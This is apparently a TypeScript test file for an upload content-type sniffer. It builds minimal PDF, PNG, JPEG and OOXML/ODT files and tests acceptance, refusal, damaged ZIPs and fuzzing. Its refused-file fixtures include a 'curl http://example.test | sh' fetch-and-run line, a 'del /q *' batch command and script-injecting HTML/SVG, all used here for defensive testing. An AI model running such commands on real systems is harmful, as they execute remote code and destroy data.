import { deflateSync, gzipSync } from 'node:zlib';

import fc from 'fast-check';

import { ACCEPTED_CONTENT_TYPES, SNIFF_HEAD_BYTES, SNIFF_TAIL_BYTES, sniffContentType, type SniffedContentType } from './content-sniffer';
import { buildZip, crc32, type ZipEntrySpec, type ZipOptions } from './test-zip';

// ---------------------------------------------------------------------------------------------
// Real minimal files, built here rather than shipped as binary fixtures.

/** What an upload inspector hands over for a file held whole in a test. */
function sniff(bytes: Uint8Array): SniffedContentType | null {
  return sniffContentType({
    head: bytes.subarray(0, SNIFF_HEAD_BYTES),
    tail: bytes.subarray(Math.max(0, bytes.length - SNIFF_TAIL_BYTES)),
    size: bytes.length,
  });
}

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A one-page PDF with a correct cross-reference table. */
function minimalPdf({ version = '1.4', filler = 0 }: { version?: string; filler?: number } = {}): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] /Contents 4 0 R >>',
    `<< /Length ${filler} >>\nstream\n${' '.repeat(filler)}\nendstream`,
  ];
  // The second line of binary bytes tells transfer tools that the file is not text.
  let out = `%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(out.length);
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return latin1(out);
}

function pngChunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([latin1(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A 1×1 grey PNG. */
function minimalPng(header: Partial<{ width: number; height: number; depth: number; colour: number }> = {}): Buffer {
  const { width = 1, height = 1, depth = 8, colour = 0 } = header;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(depth, 8);
  ihdr.writeUInt8(colour, 9);
  // One scanline: filter type 0, one mid-grey sample.
  const pixels = deflateSync(Buffer.from([0, 0x80]));
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', pixels), pngChunk('IEND', Buffer.alloc(0))]);
}

/**
 * A 1×1 grey baseline JPEG: all-ones quantisation, one-code Huffman tables (DC category 0,
 * AC end-of-block), and a single entropy-coded byte: the two 1-bit codes padded with ones.
 */
function minimalJpeg(app?: Buffer): Buffer {
  const segment = (marker: number, body: number[]) => [0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body];
  const oneCodeTable = (tableClass: number) => [tableClass << 4, 1, ...new Array<number>(15).fill(0), 0x00];
  return Buffer.from([
    0xff, 0xd8,
    ...(app ? [...app] : []),
    ...segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]),
    ...segment(0xc0, [8, 0, 1, 0, 1, 1, 1, 0x11, 0]),
    ...segment(0xc4, oneCodeTable(0)),
    ...segment(0xc4, oneCodeTable(1)),
    ...segment(0xda, [1, 1, 0x00, 0, 63, 0]),
    0x3f,
    0xff, 0xd9,
  ]);
}

/** An APP1 "Exif" segment, as cameras write first. */
const EXIF_APP1 = Buffer.from([0xff, 0xe1, 0x00, 0x08, 0x45, 0x78, 0x69, 0x66, 0x00, 0x00]);

const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${body}`;
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE_DOCUMENT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';

function contentTypes(overrides: [string, string][]): ZipEntrySpec {
  const parts = overrides.map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`).join('');
  return {
    name: '[Content_Types].xml',
    method: 8,
    data: xml(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        `<Default Extension="xml" ContentType="application/xml"/>${parts}</Types>`,
    ),
  };
}

function packageRels(target: string): ZipEntrySpec {
  return {
    name: '_rels/.rels',
    method: 8,
    data: xml(`<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" Type="${OFFICE_DOCUMENT}" Target="${target}"/></Relationships>`),
  };
}

function docxEntries(): ZipEntrySpec[] {
  return [
    contentTypes([['/word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml']]),
    packageRels('word/document.xml'),
    {
      name: 'word/document.xml',
      method: 8,
      data: xml(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
          '<w:body><w:p><w:r><w:t>Soil organic carbon</w:t></w:r></w:p></w:body></w:document>',
      ),
    },
  ];
}

function xlsxEntries(): ZipEntrySpec[] {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return [
    contentTypes([
      ['/xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'],
      ['/xl/worksheets/sheet1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml'],
    ]),
    packageRels('xl/workbook.xml'),
    {
      name: 'xl/workbook.xml',
      method: 8,
      data: xml(
        `<workbook xmlns="${main}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
          '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      method: 8,
      data: xml(
        `<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="rId1" ` +
          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
    },
    { name: 'xl/worksheets/sheet1.xml', method: 8, data: xml(`<worksheet xmlns="${main}"><sheetData/></worksheet>`) },
  ];
}

const ODT_TYPE = 'application/vnd.oasis.opendocument.text';

function odtEntries(mimetype: Partial<ZipEntrySpec> = {}): ZipEntrySpec[] {
  const manifest = 'urn:oasis:names:tc:opendocument:xmlns:manifest:1.0';
  return [
    { name: 'mimetype', data: ODT_TYPE, method: 0, ...mimetype },
    {
      name: 'content.xml',
      method: 8,
      data: xml(
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">' +
          '<office:body><office:text><text:p>Soil organic carbon</text:p></office:text></office:body></office:document-content>',
      ),
    },
    {
      name: 'META-INF/manifest.xml',
      method: 8,
      data: xml(
        `<manifest:manifest xmlns:manifest="${manifest}" manifest:version="1.3">` +
          `<manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="${ODT_TYPE}"/>` +
          '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
      ),
    },
  ];
}

const zip = (entries: ZipEntrySpec[], options?: ZipOptions) => buildZip(entries, options).bytes;

/** Deterministic incompressible-looking bytes (a linear congruential sequence). */
function noise(length: number, seed = 1): Buffer {
  const out = Buffer.alloc(length);
  let state = seed >>> 0;
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    out[i] = state >>> 24;
  }
  return out;
}

function patched(bytes: Buffer, offset: number, write: (copy: Buffer, at: number) => void): Buffer {
  const copy = Buffer.from(bytes);
  write(copy, offset < 0 ? copy.length + offset : offset);
  return copy;
}

const type = (extension: string) => ACCEPTED_CONTENT_TYPES.find((accepted) => accepted.extension === extension);

// ---------------------------------------------------------------------------------------------

describe('test-zip', () => {
  it('computes the standard CRC-32 check value', () => {
    expect(crc32(Buffer.from('123456789'))).toBe(0xcbf43926);
    expect(crc32(Buffer.alloc(0))).toBe(0);
  });

  it('lays out headers, central directory and end record consistently', () => {
    const built = buildZip([{ name: 'a.txt', data: 'hello' }, { name: 'b.txt', data: 'hello hello hello', method: 8 }], { comment: 'c' });
    const { bytes, directoryOffset, directorySize, endOffset } = built;
    expect(bytes.readUInt32LE(0)).toBe(0x04034b50);
    expect(bytes.readUInt32LE(directoryOffset)).toBe(0x02014b50);
    expect(directoryOffset + directorySize).toBe(endOffset);
    expect(bytes.readUInt32LE(endOffset)).toBe(0x06054b50);
    expect(bytes.readUInt32LE(endOffset + 16)).toBe(directoryOffset);
    expect(bytes.length).toBe(endOffset + 22 + 1);
    expect(bytes.readUInt32LE(14)).toBe(crc32(Buffer.from('hello')));
  });
});

describe('sniffContentType: accepted files', () => {
  const bigImage: ZipEntrySpec = { name: 'word/media/image1.png', data: noise(1024 * 1024) };
  const ACCEPTED: [string, Uint8Array, string][] = [
    ['a minimal PDF', minimalPdf(), 'pdf'],
    ['a PDF 2.0', minimalPdf({ version: '2.0' }), 'pdf'],
    ['a PDF 1.7 larger than head and tail together', minimalPdf({ version: '1.7', filler: 2 * 1024 * 1024 }), 'pdf'],
    ['a PDF with whitespace after %%EOF', Buffer.concat([minimalPdf(), latin1(' \r\n'.repeat(300))]), 'pdf'],
    ['a PDF ending with %%EOF and no newline', minimalPdf().subarray(0, -1), 'pdf'],
    ['a minimal PNG', minimalPng(), 'png'],
    ['an RGBA PNG', minimalPng({ colour: 6, width: 4000, height: 3000 }), 'png'],
    ['a minimal JPEG', minimalJpeg(), 'jpg'],
    ['a JPEG with an Exif segment', minimalJpeg(EXIF_APP1), 'jpg'],
    ['a DOCX', zip(docxEntries()), 'docx'],
    ['a DOCX with stored entries', zip(docxEntries().map((entry) => ({ ...entry, method: 0 }))), 'docx'],
    ['a DOCX with its parts in another order', zip(docxEntries().reverse()), 'docx'],
    ['a DOCX larger than head and tail together', zip([...docxEntries(), bigImage]), 'docx'],
    ['a DOCX with an archive comment', zip(docxEntries(), { comment: 'written by an office suite' }), 'docx'],
    ['a DOCX whose comment contains an end-record signature', zip(docxEntries(), { comment: 'PK\x05\x06 and more' }), 'docx'],
    ['a DOCX with the longest comment', zip(docxEntries(), { comment: 'x'.repeat(0xffff) }), 'docx'],
    ['a DOCX with a UTF-8 entry name', zip([...docxEntries(), { name: 'word/média.xml', data: '<x/>' }]), 'docx'],
    ['an XLSX', zip(xlsxEntries()), 'xlsx'],
    ['an ODT', zip(odtEntries()), 'odt'],
    ['an ODT with an extra field on mimetype', zip(odtEntries({ localExtra: Buffer.from([0xfe, 0xca, 0x00, 0x00]) })), 'odt'],
    ['an ODT larger than head and tail together', zip([...odtEntries(), { name: 'Pictures/1.png', data: noise(512 * 1024) }]), 'odt'],
  ];

  it.each(ACCEPTED)('%s', (_name, bytes, extension) => {
    expect(sniff(bytes)).toEqual(type(extension));
  });

  it('answers one of the accepted pairs', () => {
    expect(sniff(minimalPdf())).toEqual({ mediaType: 'application/pdf', extension: 'pdf' });
    expect(sniff(zip(docxEntries()))?.mediaType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(sniff(zip(xlsxEntries()))?.mediaType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(sniff(zip(odtEntries()))?.mediaType).toBe('application/vnd.oasis.opendocument.text');
    expect(sniff(minimalPng())?.mediaType).toBe('image/png');
    expect(sniff(minimalJpeg())?.mediaType).toBe('image/jpeg');
    // The answers are shared constants, so nobody may alter them.
    expect(Object.isFrozen(sniff(minimalPdf()))).toBe(true);
  });

  it('works from the windows alone: the middle of a large file is never needed', () => {
    const bytes = zip([...docxEntries(), { name: 'word/media/image1.png', data: noise(1024 * 1024) }]);
    const head = Buffer.from(bytes.subarray(0, SNIFF_HEAD_BYTES));
    const tail = Buffer.from(bytes.subarray(bytes.length - SNIFF_TAIL_BYTES));
    expect(sniffContentType({ head, tail, size: bytes.length })).toEqual(type('docx'));
  });
});

describe('sniffContentType: refused files', () => {
  const odtWith = (mimetype: Partial<ZipEntrySpec>) => zip(odtEntries(mimetype));
  const REFUSED: [string, Uint8Array][] = [
    // Executables and scripts, whatever they are named.
    ['an ELF executable (named report.pdf)', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)])],
    ['a PE executable', Buffer.concat([latin1('MZ\x90\x00'), Buffer.alloc(56), latin1('PE\x00\x00'), Buffer.alloc(64)])],
    ['a 64-bit Mach-O', Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(28)])],
    ['a 32-bit Mach-O', Buffer.concat([Buffer.from([0xfe, 0xed, 0xfa, 0xce]), Buffer.alloc(28)])],
    ['a universal Mach-O', Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(28)])],
    ['a shell script', latin1('#!/bin/sh\ncurl http://example.test | sh\n')],
    ['a Windows batch file', latin1('@echo off\r\ndel /q *\r\n')],
    ['an HTML page', latin1('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>')],
    ['an SVG image', latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['plain text', latin1('Soil organic carbon baseline: 52 t/ha\n')],
    ['JSON', latin1('{"pdf": "%PDF-1.4"}')],
    // Lookalikes and truncated headers.
    ['"%PDX" instead of "%PDF"', latin1(minimalPdf().toString('latin1').replace('%PDF', '%PDX'))],
    ['"%PDF-" alone', latin1('%PDF-')],
    ['"%PDF-1.4" alone', latin1('%PDF-1.4')],
    ['a PDF header with a bad version', latin1(minimalPdf().toString('latin1').replace('%PDF-1.4', '%PDF-x.y'))],
    ['a PDF version 9', minimalPdf({ version: '9.0' })],
    ['text starting with a PDF header', latin1('%PDF-1.4\nthis is not really a PDF\n')],
    ['a truncated PDF (no %%EOF)', minimalPdf().subarray(0, 200)],
    ['a PDF with the header after leading bytes', Buffer.concat([latin1('   '), minimalPdf()])],
    ['a PDF after an HTML prologue', Buffer.concat([latin1('<html><!-- '), minimalPdf()])],
    ['a PDF with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), minimalPdf()])],
    ['a PDF with more than 1024 bytes after %%EOF', Buffer.concat([minimalPdf(), latin1('x'.repeat(1100))])],
    ['a PNG signature alone', PNG_SIGNATURE],
    ['a PNG cut inside IHDR', minimalPng().subarray(0, 24)],
    ['a PNG without its IHDR CRC', minimalPng().subarray(0, 32)],
    ['a PNG whose first chunk is not IHDR', Buffer.concat([PNG_SIGNATURE, pngChunk('IDAT', Buffer.alloc(13))])],
    ['a PNG of width 0', minimalPng({ width: 0 })],
    ['a PNG with colour type 5', minimalPng({ colour: 5 })],
    ['a PNG with bit depth 3', minimalPng({ depth: 3 })],
    ['a PNG signature with a wrong last byte', Buffer.concat([PNG_SIGNATURE.subarray(0, 7), Buffer.from([0x0b]), minimalPng().subarray(8)])],
    ['JPEG start-of-image alone', Buffer.from([0xff, 0xd8])],
    ['JPEG start-of-image and a marker prefix', Buffer.from([0xff, 0xd8, 0xff])],
    ['JPEG start-of-image and a non-marker', Buffer.from([0xff, 0xd8, 0xff, 0x00, 0x10])],
    ['JPEG start-of-image and a fill byte', Buffer.from([0xff, 0xd8, 0xff, 0xff, 0xd9])],
    // Other formats.
    ['a GIF', latin1('GIF89a\x01\x00\x01\x00\x00\x00\x00;')],
    ['a WebP', latin1('RIFF\x1a\x00\x00\x00WEBPVP8 ')],
    ['a TIFF', Buffer.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0])],
    ['a gzip stream', gzipSync(latin1('x'))],
    ['an OLE2 compound file (legacy .doc, encrypted OOXML)', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)])],
    ['a RAR archive', latin1('Rar!\x1a\x07\x01\x00')],
    // ZIP containers that are none of the accepted formats.
    ['an empty ZIP', zip([])],
    ['a ZIP with random entries', zip([{ name: 'notes.txt', data: 'hello' }, { name: 'photo.jpg', data: minimalJpeg() }])],
    ['a JAR', zip([{ name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\r\n' }, { name: 'a/B.class', data: noise(64) }])],
    ['an EPUB', zip([{ name: 'mimetype', data: 'application/epub+zip' }, { name: 'content.xml', data: '<x/>' }])],
    ['a DOCX without [Content_Types].xml', zip(docxEntries().slice(1))],
    ['a DOCX without word/document.xml', zip(docxEntries().slice(0, 2))],
    ['a DOCX whose names differ in case', zip(docxEntries().map((entry) => ({ ...entry, name: entry.name.toUpperCase() })))],
    ['an XLSX without xl/workbook.xml', zip(xlsxEntries().filter((entry) => entry.name !== 'xl/workbook.xml'))],
    ['a DOCX that is also an XLSX', zip([...docxEntries(), ...xlsxEntries().slice(2)])],
    ['a DOCX that is also an ODT', zip([...odtEntries(), ...docxEntries()])],
    ['an ODT whose mimetype is compressed', odtWith({ method: 8 })],
    ['an ODT spreadsheet', odtWith({ data: 'application/vnd.oasis.opendocument.spreadsheet' })],
    ['an ODT whose mimetype ends with a newline', odtWith({ data: `${ODT_TYPE}\n` })],
    ['an ODT whose mimetype is a prefix of the type', odtWith({ data: ODT_TYPE.slice(0, -1) })],
    ['an ODT whose mimetype entry is named otherwise', odtWith({ name: 'mimetype.txt' })],
    ['an ODT whose mimetype is beyond the head', odtWith({ localExtra: Buffer.alloc(SNIFF_HEAD_BYTES) })],
    ['an ODT whose mimetype is not first', zip([odtEntries()[1], odtEntries()[0], odtEntries()[2]])],
    ['an ODT without content.xml', zip(odtEntries().filter((entry) => entry.name !== 'content.xml'))],
    ['a DOCX with two entries of the same name', zip([...docxEntries(), docxEntries()[2]])],
    ['a DOCX with an encrypted entry', zip(docxEntries().map((entry, index) => (index === 2 ? { ...entry, flags: 0x0001 } : entry)))],
    ['a DOCX behind a self-extractor stub', zip(docxEntries(), { prefix: Buffer.concat([latin1('MZ'), Buffer.alloc(200)]) })],
    ['a DOCX behind a fake empty local header', zip(docxEntries(), { prefix: Buffer.concat([latin1('PK\x03\x04'), Buffer.alloc(26)]) })],
  ];

  it.each(REFUSED)('%s', (_name, bytes) => {
    expect(sniff(bytes)).toBeNull();
  });
});

describe('sniffContentType: damaged ZIP structures', () => {
  const built = buildZip(docxEntries());
  const { bytes, endOffset, directoryOffset } = built;
  const DAMAGED: [string, Buffer][] = [
    ['a corrupted end-record signature', patched(bytes, endOffset, (b, at) => (b[at] = 0x51))],
    ['the last byte cut off', bytes.subarray(0, -1)],
    ['the end record cut off', bytes.subarray(0, endOffset + 10)],
    ['the whole central directory cut off', bytes.subarray(0, directoryOffset)],
    ['a byte appended after the end record', Buffer.concat([bytes, Buffer.from([0])])],
    ['a comment length longer than the comment', patched(bytes, endOffset + 20, (b, at) => b.writeUInt16LE(5, at))],
    ['a directory offset one byte late', patched(bytes, endOffset + 16, (b, at) => b.writeUInt32LE(directoryOffset + 1, at))],
    ['a directory offset beyond the file', patched(bytes, endOffset + 16, (b, at) => b.writeUInt32LE(0xfffffff0, at))],
    ['a directory size one byte short', patched(bytes, endOffset + 12, (b, at) => b.writeUInt32LE(endOffset - directoryOffset - 1, at))],
    ['a directory size larger than the file', patched(bytes, endOffset + 12, (b, at) => b.writeUInt32LE(0x7fffffff, at))],
    ['one entry more than written', patched(bytes, endOffset + 8, (b, at) => (b.writeUInt16LE(4, at), b.writeUInt16LE(4, at + 2)))],
    ['one entry fewer than written', patched(bytes, endOffset + 8, (b, at) => (b.writeUInt16LE(2, at), b.writeUInt16LE(2, at + 2)))],
    ['entry counts that disagree', patched(bytes, endOffset + 8, (b, at) => b.writeUInt16LE(2, at))],
    ['a second disk', patched(bytes, endOffset + 4, (b, at) => b.writeUInt16LE(1, at))],
    ['ZIP64 markers in the end record', patched(bytes, endOffset + 8, (b, at) => (b.writeUInt16LE(0xffff, at), b.writeUInt16LE(0xffff, at + 2), b.writeUInt32LE(0xffffffff, at + 4), b.writeUInt32LE(0xffffffff, at + 8)))],
    ['a corrupted central header signature', patched(bytes, directoryOffset, (b, at) => (b[at + 2] = 0))],
    ['a central name length running past the directory', patched(bytes, directoryOffset + 28, (b, at) => b.writeUInt16LE(0xffff, at))],
    ['a local header offset inside the directory', patched(bytes, directoryOffset + 42, (b, at) => b.writeUInt32LE(directoryOffset, at))],
    ['a local header offset beyond the file', patched(bytes, directoryOffset + 42, (b, at) => b.writeUInt32LE(0xffffffff, at))],
    ['a local name that differs from the central one', patched(bytes, 30, (b, at) => (b[at] = 0x21))],
    ['a local name length running past the head', patched(bytes, 26, (b, at) => b.writeUInt16LE(0xffff, at))],
  ];

  it.each(DAMAGED)('%s', (_name, damaged) => {
    expect(sniff(damaged)).toBeNull();
  });

  it('refuses a ZIP64 locator in front of the end record', () => {
    // The last central name ends with the 20 bytes where a ZIP64 locator would sit.
    const locator = `PK\x06\x07${'a'.repeat(16)}`;
    expect(sniff(zip([...docxEntries(), { name: `docProps/x${'b'.repeat(16)}`, data: '' }]))).toEqual(type('docx'));
    expect(sniff(zip([...docxEntries(), { name: `docProps/${locator}`, data: '' }]))).toBeNull();
  });

  it('refuses a central directory larger than the tail, and accepts the same file with a longer tail', () => {
    const many = Array.from({ length: 3000 }, (_, i): ZipEntrySpec => ({ name: `customXml/item${String(i).padStart(5, '0')}${'-'.repeat(80)}.xml`, data: '' }));
    const large = buildZip([...docxEntries(), ...many]);
    expect(large.directorySize).toBeGreaterThan(SNIFF_TAIL_BYTES);
    expect(sniff(large.bytes)).toBeNull();
    expect(sniffContentType({ head: large.bytes.subarray(0, SNIFF_HEAD_BYTES), tail: large.bytes, size: large.bytes.length })).toEqual(type('docx'));
  });
});

describe('sniffContentType: inconsistent input', () => {
  const pdf = minimalPdf();
  const CASES: [string, { head: Uint8Array; tail: Uint8Array; size: number }][] = [
    ['an empty file', { head: Buffer.alloc(0), tail: Buffer.alloc(0), size: 0 }],
    ['no head for a non-empty file', { head: Buffer.alloc(0), tail: pdf, size: pdf.length }],
    ['a head longer than the file', { head: pdf, tail: pdf, size: pdf.length - 1 }],
    ['a tail longer than the file', { head: pdf.subarray(0, 10), tail: pdf, size: pdf.length - 1 }],
    ['a negative size', { head: pdf, tail: pdf, size: -1 }],
    ['a fractional size', { head: pdf, tail: pdf, size: pdf.length + 0.5 }],
    ['a NaN size', { head: pdf, tail: pdf, size: NaN }],
    ['an infinite size', { head: pdf, tail: pdf, size: Infinity }],
    ['a head that is not bytes', { head: 'text' as unknown as Uint8Array, tail: pdf, size: pdf.length }],
    ['a tail that is not bytes', { head: pdf, tail: null as unknown as Uint8Array, size: pdf.length }],
  ];

  it.each(CASES)('%s', (_name, input) => {
    expect(sniffContentType(input)).toBeNull();
  });

  it('accepts plain Uint8Arrays as well as Buffers', () => {
    const bytes = new Uint8Array(minimalPng());
    expect(sniffContentType({ head: bytes, tail: bytes, size: bytes.length })).toEqual(type('png'));
  });

  it('refuses a tail that does not reach the end record', () => {
    const bytes = zip(docxEntries());
    expect(sniffContentType({ head: bytes, tail: bytes.subarray(0, bytes.length - 1), size: bytes.length })).toBeNull();
  });
});

describe('sniffContentType properties', () => {
  const SIGNATURES = [latin1('%PDF-'), PNG_SIGNATURE, Buffer.from([0xff, 0xd8, 0xff]), latin1('PK\x03\x04')];
  const startsWithSignature = (bytes: Uint8Array) => SIGNATURES.some((signature) => Buffer.from(bytes.subarray(0, signature.length)).equals(signature));

  it('random bytes never throw, and give null unless they start with a known signature', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 4096 }), (bytes) => {
        const result = sniff(bytes);
        if (!startsWithSignature(bytes)) expect(result).toBeNull();
      }),
      { numRuns: 2000 },
    );
  });

  it('random bytes after a known signature never throw', () => {
    fc.assert(
      fc.property(fc.constantFrom(...SIGNATURES), fc.uint8Array({ maxLength: 2048 }), (signature, rest) => {
        const result = sniff(Buffer.concat([signature, rest]));
        expect(result === null || ACCEPTED_CONTENT_TYPES.includes(result)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  const FILES = [
    minimalPdf(),
    minimalPng(),
    minimalJpeg(EXIF_APP1),
    zip(docxEntries()),
    zip(xlsxEntries()),
    zip(odtEntries()),
    zip(docxEntries(), { comment: 'PK\x05\x06 comment' }),
  ];

  it('valid files with random bytes overwritten never throw', () => {
    // Half of the damage lands near the end, where the ZIP structures live.
    const damage = fc.array(fc.tuple(fc.boolean(), fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(fc.constantFrom(...FILES), damage, (file, writes) => {
        const copy = Buffer.from(file);
        for (const [nearEnd, position, value] of writes) {
          const at = nearEnd ? copy.length - 1 - (position % Math.min(copy.length, 300)) : position % copy.length;
          copy[at] = value;
        }
        const result = sniff(copy);
        expect(result === null || ACCEPTED_CONTENT_TYPES.includes(result)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('a ZIP cut anywhere before its end gives null', () => {
    const FULL = [zip(docxEntries()), zip(xlsxEntries()), zip(odtEntries())];
    fc.assert(
      fc.property(fc.constantFrom(...FULL), fc.nat(), (file, cut) => {
        expect(sniff(file.subarray(0, cut % file.length))).toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  it('any head and tail windows: recognised exactly when the tail holds the central directory and the first name is known', () => {
    const built = buildZip([...docxEntries(), { name: 'word/media/image1.png', data: noise(300 * 1024) }]);
    const { bytes, directoryOffset } = built;
    const firstName = 30 + '[Content_Types].xml'.length;
    fc.assert(
      fc.property(
        // Biased towards the boundaries: a short head, and a tail just around the directory.
        fc.oneof(fc.integer({ min: 0, max: 64 }), fc.integer({ min: 0, max: SNIFF_HEAD_BYTES })),
        fc.oneof(
          fc.integer({ min: 0, max: bytes.length }),
          fc.integer({ min: bytes.length - directoryOffset - 3, max: bytes.length - directoryOffset + 3 }),
          fc.integer({ min: bytes.length - 64, max: bytes.length }),
        ),
        (headLength, tailLength) => {
        const result = sniffContentType({ head: bytes.subarray(0, headLength), tail: bytes.subarray(bytes.length - tailLength), size: bytes.length });
        // Needed: the signature (bytes 0-3) and the first local name with its length (26 up to
        // the end of the name), from the head or from a tail reaching back to them.
        const known = (from: number, to: number) => headLength >= to || (headLength >= from && bytes.length - tailLength <= headLength) || bytes.length - tailLength <= from;
        const enough = headLength > 0 && known(0, 4) && known(26, firstName) && tailLength >= bytes.length - directoryOffset;
        expect(result).toEqual(enough ? type('docx') : null);
        },
      ),
      { numRuns: 1000 },
    );
  });
});
